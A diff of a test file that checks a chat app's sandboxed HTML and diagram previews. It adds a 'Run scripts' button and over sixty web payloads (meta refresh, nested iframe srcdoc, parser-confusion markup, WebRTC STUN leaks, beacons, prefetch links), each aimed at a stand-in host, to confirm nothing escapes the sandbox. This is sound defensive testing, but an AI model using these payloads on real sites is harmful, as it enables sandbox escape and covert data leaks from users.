@@ -1,6 +1,8 @@
 """Previews of code in answers: diagrams and pages are drawn in a sandbox that reaches no server and no other page."""
 
+import re
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from socket import SOCK_DGRAM, socket
 from threading import Thread
 
 import pytest
@@ -61,6 +63,14 @@ def test_the_library_is_asked_for_only_where_a_diagram_is(open_page, person):
     assert len([url for url in page.asked if "/preview/" in url]) == 1
 
 
+@pytest.mark.parametrize(
+    "source", ["mindmap\n  root((Bread))\n    Flour\n    Water", "gantt\n  section A\n  Rise :a, 2026-01-01, 3d"]
+)
+def test_other_kinds_of_diagrams_are_drawn_too(open_page, person, source):
+    page = shown(open_page, person, f"```mermaid\n{source}\n```")
+    expect(page.get_by_role("img", name="Diagram")).to_be_visible()
+
+
 def test_a_diagram_with_an_error_shows_its_source_and_one_sentence(open_page, person):
     page = shown(open_page, person, "```mermaid\nflowchart LR\n  A[[ --> nowhere\n```")
     expect(page.get_by_text("The diagram cannot be drawn: its source has an error.")).to_be_visible()
@@ -79,7 +89,7 @@ def test_a_large_diagram_stays_inside_a_phones_page(open_page, person):
 
 
 def test_while_an_answer_is_written_a_finished_diagram_is_drawn_once(open_page, person, language_model):
-    language_model(Say((f"{DIAGRAM}\n\n", "After", *(f" word{number}" for number in range(30))), seconds_apart=0.1))
+    language_model(Say((f"{DIAGRAM}\n\n", "After", *(f" word{number}" for number in range(80))), seconds_apart=0.1))
     page = open_page(user=person)
     say(page, "Draw")
     expect(page.locator('.turn[data-status="streaming"] .preview img')).to_be_visible()
@@ -119,7 +129,11 @@ def test_html_and_svg_are_previewed_at_a_press_and_not_before(open_page, person)
     assert page.locator("iframe").count() == 0
     page.get_by_role("button", name="Preview").first.click()
     inside = page.frame_locator(".preview iframe").first
+    expect(inside.get_by_text("no", exact=True)).to_be_visible()
+    expect(page.get_by_text("Scripts do not run in this preview")).to_be_visible()
+    page.get_by_role("button", name="Run scripts").click()
     expect(inside.get_by_text("it ran")).to_be_visible()
+    expect(page.get_by_role("button", name="Run scripts")).to_have_count(0)
     page.get_by_role("button", name="Preview").click()
     expect(page.frame_locator(".preview iframe").last.locator("rect")).to_be_visible()
     # As high as what is in it.
@@ -163,6 +177,80 @@ def elsewhere():
     heard.server.server_close()
 
 
+# What gets out of a page, each with a name of its own in place of HOST; STUN is a server of WebRTC.
+PEER = "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}, {urls: 'stun:HOST'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"
+RUN = [
+    "location = 'http://HOST/'", "location.replace('http://HOST/')", "top.location = 'http://HOST/'", "parent.location = 'http://HOST/'",
+    "open('http://HOST/')", "open('http://HOST/', '_self')", "fetch('http://HOST/')", "navigator.sendBeacon('http://HOST/', 'x')",
+    "new WebSocket('ws://HOST/')", "new EventSource('http://HOST/')", "import('http://HOST/')", "new Worker('http://HOST/')", "new Image().src = 'http://HOST/'",
+    "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()", "new WebTransport('https://HOST/')", PEER,
+    "const f = document.createElement('iframe'); f.src = 'http://HOST/'; document.body.append(f)",
+    "document.body.innerHTML = '<iframe src=http://HOST/></iframe>'", "document.write('<iframe src=http://HOST/></iframe>')",
+    "document.body.append(document.querySelector('template').content.cloneNode(true))",
+    "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://HOST/'; document.head.append(l)",
+    "const a = document.createElement('a'); a.href = 'http://HOST/'; a.click()", "document.forms[0].submit()", "history.pushState({}, '', '//HOST/')",
+    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'http://HOST/'",
+]  # fmt: skip
+WRITTEN = [
+    *(f"<template><iframe src=http://HOST/></iframe></template><form action=http://HOST/></form><script>{each}</script>" for each in RUN),
+    "<img src=x onerror=\"location = 'http://HOST/'\">", "<svg onload=\"location = 'http://HOST/'\"></svg>", "<body onload=\"location = 'http://HOST/'\">",
+    "<meta http-equiv=refresh content='0;url=http://HOST/'>", "<META HTTP-EQUIV='Refresh' content='0; http://HOST/'>", "<noscript><meta http-equiv=refresh content='0;url=http://HOST/'></noscript>",
+    "<iframe src=http://HOST/></iframe>", "<iframe srcdoc=\"<script>location = 'http://HOST/'</script>\"></iframe>", f'<iframe srcdoc="<script>{PEER}</script>"></iframe>',
+    "<iframe srcdoc=\"<iframe srcdoc='<meta http-equiv=refresh content=0;url=http://HOST/>'></iframe>\"></iframe>",
+    "<iframe src=\"data:text/html,<script>location='http://HOST/'</script>\"></iframe>", "<object data=http://HOST/></object>", "<embed src=http://HOST/>",
+    "<frameset cols=*><frame src=http://HOST/></frameset>", "<math><annotation-xml encoding='text/html'><iframe src=http://HOST/></iframe></annotation-xml></math>",
+    "<svg><foreignObject><iframe src=http://HOST/></iframe></foreignObject></svg>", "<svg><style><img title='</style><iframe src=http://HOST/>'></svg>",
+    "<form><math><mtext></form><form><mglyph><style></math><iframe src=http://HOST/>", "<link rel=preconnect href=http://HOST/>", "<link rel=dns-prefetch href=//HOST/>",
+    "<link rel=prefetch href=http://HOST/><link rel=preload as=image href=http://HOST/><link rel=modulepreload href=http://HOST/>", "<link rel=stylesheet href=http://HOST/><link rel=icon href=http://HOST/>",
+    "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"http://HOST/\"]}]}</script>", "<script src=http://HOST/></script>", "<base href=http://HOST/><img src=x><a href=x>press</a>",
+    "<style>@import 'http://HOST/'; @font-face { font-family: f; src: url(http://HOST/) } p { font-family: f; background: url(http://HOST/) }</style><p>text",
+    "<p style='background: image-set(url(http://HOST/) 1x)'>text", "<img src=http://HOST/><img srcset='http://HOST/ 2x'><picture><source srcset=http://HOST/><img></picture>",
+    "<video src=http://HOST/ poster=http://HOST/ autoplay></video><audio src=http://HOST/ autoplay></audio>", "<svg><image href=http://HOST/ /><use xlink:href=http://HOST/#a /></svg>",
+    "<a href=http://HOST/>press</a>", "<a href=http://HOST/ ping=http://HOST/ target=_blank>press</a>", "<svg><a xlink:href=http://HOST/ href=#x><text y=20>press</text></a></svg>",
+    "<svg><a href=#x><set attributeName=href to=http://HOST/ /><text y=20>press</text></a></svg>", "<form action=http://HOST/ method=post><button>press</button></form>",
+    "<form><button formaction=http://HOST/>press</button><input type=image src=http://HOST/></form>",
+]  # fmt: skip
+
+
+def test_of_sixty_previews_nothing_gets_out_not_even_a_name(server, person, net_log):
+    assert len(WRITTEN) > 60
+    listening = socket(type=SOCK_DGRAM)
+    listening.bind(("127.0.0.1", 0))
+    listening.settimeout(0.1)
+    stun = f"127.0.0.1:{listening.getsockname()[1]}"
+    pages = [each.replace("HOST", f"n{n}.probe.test").replace("STUN", stun) for n, each in enumerate(WRITTEN)]
+    turn = a_turn(person, "Show me", "\n\n".join(f"```html\n{each}\n```" for each in pages))
+
+    def press(name):
+        def visit(browser):
+            page = browser.new_context(base_url=server).new_page()
+            page.context.add_cookies([_session_cookie(person, server)])
+            page.goto(conversation_path(turn.conversation_id))
+            for button in page.get_by_role("button", name="Preview").all()[::-1]:
+                button.click()
+            expect(page.locator(".preview iframe")).to_have_count(len(pages))
+            page.wait_for_timeout(500)
+            for frame in page.frames[1:]:
+                for link in frame.get_by_text("press").all():
+                    link.click(timeout=5000, no_wait_after=True)
+            if name:
+                for button in page.get_by_role("button", name=name).all()[::-1]:
+                    button.click()
+            page.wait_for_timeout(2000)
+
+        names = {*map(int, re.findall(r"n(\d+)\.probe\.test", net_log(visit)))}
+        try:
+            return {pages[n] for n in names}, listening.recv(999)
+        except TimeoutError:
+            return {pages[n] for n in names}, b""
+
+    assert press(None) == (set(), b"")
+    # Else the test could not fail; and what the second press says is true.
+    names, heard = press("Run scripts")
+    assert len(names) > 5 and heard
+    listening.close()
+
+
 # Every way out of a page that there is without a person's help, and every way into the page around it.
 HOSTILE = """<!doctype html><p>hostile</p>
 <link rel="stylesheet" href="http://ELSEWHERE/style"><link rel="preload" as="image" href="http://ELSEWHERE/preload">
@@ -194,7 +282,6 @@ attempt("events", () => new EventSource("http://ELSEWHERE/events"));
 attempt("worker", () => new Worker("http://ELSEWHERE/worker"));
 attempt("module", () => import("http://ELSEWHERE/module").catch(() => {}));
 attempt("request", () => { const r = new XMLHttpRequest(); r.open("GET", "http://ELSEWHERE/xhr"); r.send(); });
-attempt("peer", () => typeof RTCPeerConnection);
 attempt("form", () => form.submit());
 const leave = () => {
   location.href = "http://ELSEWHERE/location";
@@ -203,7 +290,7 @@ const leave = () => {
 </script>"""
 
 
-def test_from_inside_a_preview_nothing_reaches_a_server_a_cookie_or_the_page(browser, server, person, elsewhere):
+def test_scripts_of_a_preview_reach_no_cookie_no_page_and_send_no_request(browser, server, person, elsewhere):
     hostile = HOSTILE.replace("ELSEWHERE", elsewhere.address).replace("OURS", server)
     turn = a_turn(person, "Show me", f"```html\n{hostile}\n```")
     # Not by `open_page`, which would count what is refused.
@@ -216,7 +303,8 @@ def test_from_inside_a_preview_nothing_reaches_a_server_a_cookie_or_the_page(bro
     reached = []
     page.on("response", lambda response: reached.append(response.url))
     page.get_by_role("button", name="Preview").click()
-    expect(page.frame_locator(".preview iframe").first.get_by_text("hostile")).to_be_visible()
+    page.get_by_role("button", name="Run scripts").click()
+    page.frame_locator(".preview iframe").first.locator("#form").wait_for(state="attached")
     (inside,) = [frame for frame in page.frames if frame.parent_frame == page.main_frame]
     found = inside.evaluate("found")
     # A refused navigation may take the page away, so it is the last thing that is tried.
@@ -228,7 +316,7 @@ def test_from_inside_a_preview_nothing_reaches_a_server_a_cookie_or_the_page(bro
     assert found["origin"] == "null"
     refused = [found[name] for name in ("cookie", "parent", "parent's address", "storage", "caches", "top")]
     assert refused == ["SecurityError"] * 6
-    assert (found["peer"], found["window"]) == ("undefined", "null")
+    assert found["window"] == "null"
     assert elsewhere.paths == []
     assert f"{server}/preview/" in reached
     assert [url for url in reached if "from-inside" in url] == []
@@ -334,4 +422,8 @@ def test_the_policies_of_a_chat_and_of_its_previews_name_each_other_and_no_more(
     assert {"default-src 'none'", "sandbox allow-scripts", "frame-ancestors 'self'", "form-action 'none'"} <= {*policy}
     assert not [part for part in policy if "http" in part or "*" in part or "allow-same-origin" in part]
     of_pictures = Client().get("/preview/?pictures")["Content-Security-Policy"].split("; ")
-    assert {*of_pictures} ^ {*policy} == {"img-src data:", "img-src http: https:"}
+    nonces = {part for part in (*policy, *of_pictures) if part.startswith("script-src 'nonce-")}
+    assert len(nonces) == 2
+    assert ({*of_pictures} ^ {*policy}) - nonces == {"img-src data:", "img-src http: https:"}
+    of_scripts = Client().get("/preview/?scripts")["Content-Security-Policy"].split("; ")
+    assert ({*of_scripts} ^ {*policy}) - nonces == {"script-src 'unsafe-inline'"}
